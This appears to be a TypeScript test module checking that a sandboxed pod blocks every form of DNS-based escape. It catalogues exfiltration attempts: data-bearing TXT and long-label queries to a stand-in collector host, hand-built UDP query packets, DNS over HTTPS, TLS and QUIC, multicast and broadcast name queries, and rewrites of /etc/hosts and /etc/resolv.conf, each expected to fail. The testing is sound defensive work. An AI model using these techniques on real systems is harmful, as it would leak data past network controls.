import { type Attempt, type AttemptClass, fails, inside, REFUSED } from '../attempt.ts';

/** A query of one kind, by way of the pod's resolver. */
const query = (id: string, attempt: string, type: string, name: string, recorded = true): Attempt => ({
  id,
  attempt,
  code: inside(
    ({ attempt, dns }, _values, name, type) => {
      const resolver = new dns.promises.Resolver({ timeout: 1500, tries: 1 });
      return attempt(() => resolver.resolve(name, type as 'A'));
    },
    name,
    type,
  ),
  expected: /^ENOTFOUND$/,
  guardedBy: 'network',
  ...(recorded ? { recorded: new RegExp(`^${name.replaceAll('.', '\\.')}:53 a DNS query`, 'i') } : {}),
});

/** A name server of its own choice. */
const server = (id: string, attempt: string, address: string): Attempt => ({
  id,
  attempt,
  code: inside(({ attempt, dns }, _values, address) => {
    const resolver = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers([address]);
    return attempt(() => resolver.resolve4('own.collector.example'));
  }, address),
  expected: /^(ENOTFOUND|ETIMEOUT|ECONNREFUSED)$/,
  guardedBy: 'network',
});

/** Bytes of a query, sent somewhere by hand. */
const packet = (host: string, port: number) =>
  inside(
    ({ udp }, _values, host, port) => {
      const labels = ['c2VjcmV0', 'collector', 'example'].map((l) => `${String.fromCharCode(l.length)}${l}`);
      const head = '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00';
      return udp(host, port, Buffer.from(`${head}${labels.join('')}\x00\x00\x01\x00\x01`, 'latin1'));
    },
    host,
    port,
  );

/** DNS in its forms: granted names are in /etc/hosts, every query is answered "no such name". */
export const names: AttemptClass = {
  name: 'names',
  must: 'no name is resolved and no data leaves in a query',
  attempts: [
    {
      id: 'lookup',
      attempt: 'look up another name',
      code: inside(({ attempt, dns }) => attempt(() => dns.promises.lookup('collector.example'))),
      expected: /^(ENOTFOUND|EAI_AGAIN)$/,
      recorded: /^collector\.example:53 a DNS query/,
      guardedBy: 'network',
    },
    query('txt', 'carry data out in a TXT query', 'TXT', 'c2VjcmV0LXRleHQ.collector.example'),
    query('any', 'an ANY query', 'ANY', 'any.collector.example'),
    query('aaaa', 'an AAAA query', 'AAAA', 'aaaa.collector.example'),
    query('mx', 'an MX query', 'MX', 'mx.collector.example'),
    query('srv', 'an SRV query', 'SRV', '_sip._tcp.collector.example'),
    query('caa', 'a CAA query', 'CAA', 'caa.collector.example'),
    query('reverse', 'a reverse query', 'PTR', '7.100.51.198.in-addr.arpa'),
    // The pod's own resolver knows it: an address of the pod's own loopback, and nothing else of any type.
    {
      ...query('granted', 'a query for the granted name', 'A', 'API.Example.com', false),
      expected: /^done 127\.77\.0\.1$/,
    },
    {
      ...query('granted-txt', 'another record of the granted name', 'TXT', 'api.example.com', false),
      expected: /^ENODATA$/,
    },
    query('below-granted', 'data in a name below the granted one', 'A', 'c2VjcmV0.api.example.com'),
    query(
      'long',
      'as much data as a name can hold',
      'A',
      `${`${'a'.repeat(60)}.`.repeat(3)}collector.example`,
    ),
    {
      id: 'search',
      attempt: "the host's search domains and resolvers",
      code: inside(({ fs }) =>
        fs
          .readFileSync('/etc/resolv.conf', 'utf8')
          .split('\n')
          .filter((line) => /^(nameserver|search|domain)/.test(line))
          .join(';'),
      ),
      expected: /^(search \.;)?nameserver 127\.77\.255\.53(;search \.)?$/,
    },
    {
      id: 'search-name',
      attempt: 'a short name, which a search domain would complete',
      code: inside(({ attempt, dns }) => attempt(() => dns.promises.lookup('wpad'))),
      expected: /^(ENOTFOUND|EAI_AGAIN)$/,
      recorded: /^wpad:53 a DNS query/,
      guardedBy: 'network',
    },
    server('own-server', 'ask a name server of its own', '198.51.100.7'),
    server('own-server-ipv6', 'ask a name server over IPv6', '[2001:db8::7]:53'),
    {
      id: 'host-resolver',
      attempt: "the host's own stub resolver and the engine's",
      code: inside(async ({ attempt, dns }) => {
        const seen: string[] = [];
        for (const server of ['127.0.0.53', '127.0.0.11']) {
          const resolver = new dns.promises.Resolver({ timeout: 700, tries: 1 });
          resolver.setServers([server]);
          seen.push(await attempt(() => resolver.resolve4('stub.collector.example')));
        }
        return seen.join();
      }),
      expected: /^((ENOTFOUND|ETIMEOUT|ECONNREFUSED),?){2}$/,
      guardedBy: 'network',
    },
    {
      id: 'tcp',
      attempt: 'DNS over TCP',
      code: inside(({ tcp }) => tcp('198.51.100.7', 53, Buffer.alloc(20))),
      expected: REFUSED,
      recorded: /^198\.51\.100\.7:53 this address/,
      guardedBy: 'network',
    },
    {
      id: 'dot',
      attempt: 'DNS over TLS',
      code: inside(({ tcp }) => tcp('198.51.100.7', 853)),
      expected: /^ECONNREFUSED $/,
      guardedBy: 'network',
    },
    {
      id: 'doq',
      attempt: 'DNS over QUIC',
      code: packet('198.51.100.7', 853),
      expected: /^(ECONNREFUSED|silence)$/,
      guardedBy: 'network',
    },
    {
      id: 'doh',
      attempt: 'DNS over HTTPS, at an address',
      code: inside(({ attempt }) =>
        attempt(async () => {
          const signal = AbortSignal.timeout(3000);
          return (await fetch('https://198.51.100.7/dns-query?dns=EjQBAAABAAAAAAAA', { signal })).status;
        }),
      ),
      expected: /^(ECONNRESET|UND_ERR_SOCKET|ERR_SSL_TLSV1_ALERT_ACCESS_DENIED)$/,
      recorded: /^198\.51\.100\.7:443 this address/,
      guardedBy: 'network',
    },
    {
      id: 'doh-granted',
      attempt: 'DNS over HTTPS, through the granted domain',
      code: inside(({ api }) => api('/dns-query?dns=EjQBAAABAAAAAAAA')),
      expected: /^403 .*no rule for GET/,
      recorded: /no rule for GET/,
    },
    {
      id: 'mdns',
      attempt: 'multicast DNS',
      code: packet('224.0.0.251', 5353),
      expected: /^(ENETUNREACH|EINVAL|EPERM|ECONNREFUSED|silence)$/,
      guardedBy: 'network',
    },
    {
      id: 'mdns-ipv6',
      attempt: 'multicast DNS over IPv6',
      code: packet('ff02::fb', 5353),
      expected: /^(ENETUNREACH|EADDRNOTAVAIL|EINVAL|EPERM|ECONNREFUSED|silence)$/,
      guardedBy: 'network',
    },
    {
      id: 'llmnr',
      attempt: 'LLMNR',
      code: packet('224.0.0.252', 5355),
      expected: /^(ENETUNREACH|EINVAL|EPERM|ECONNREFUSED|silence)$/,
      guardedBy: 'network',
    },
    {
      id: 'netbios',
      attempt: 'a NetBIOS name query to everybody',
      code: packet('255.255.255.255', 137),
      expected: /^(EACCES|ENETUNREACH|EINVAL|silence)$/,
      guardedBy: 'network',
    },
    fails(
      'hosts',
      'rewrite /etc/hosts',
      ({ fs }) => fs.appendFileSync('/etc/hosts', '198.51.100.7 api.example.com\n'),
      /^(EROFS|EACCES)$/,
      'machine',
    ),
    fails(
      'resolv',
      'rewrite /etc/resolv.conf',
      ({ fs }) => fs.appendFileSync('/etc/resolv.conf', 'nameserver 198.51.100.7\n'),
      /^(EROFS|EACCES)$/,
      'machine',
    ),
  ],
};
